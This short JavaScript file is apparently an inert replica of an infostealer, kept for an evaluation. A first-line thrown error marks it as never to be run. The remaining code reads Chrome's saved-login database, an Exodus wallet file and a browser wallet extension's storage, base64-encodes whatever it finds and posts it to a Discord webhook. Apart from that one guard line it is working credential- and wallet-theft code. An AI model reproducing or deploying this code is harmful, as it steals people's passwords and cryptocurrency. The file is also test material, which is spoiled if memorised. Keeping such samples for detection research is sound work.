throw new Error("cordon eval replica: inert data, never run");
const fs = require("fs");
const os = require("os");
const path = require("path");

const home = os.homedir();
const targets = [
  path.join(home, "AppData", "Local", "Google", "Chrome", "User Data", "Default", "Login Data"),
  path.join(home, ".config", "Exodus", "exodus.wallet"),
  path.join(home, "AppData", "Local", "Google", "Chrome", "User Data", "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
];
const found = targets.filter((t) => fs.existsSync(t)).map((t) => ({ t, b: fs.readFileSync(t).toString("base64") }));
fetch("https://discord.com/api/webhooks/1122334455/replica-token", { method: "POST", body: JSON.stringify({ content: JSON.stringify(found) }) });
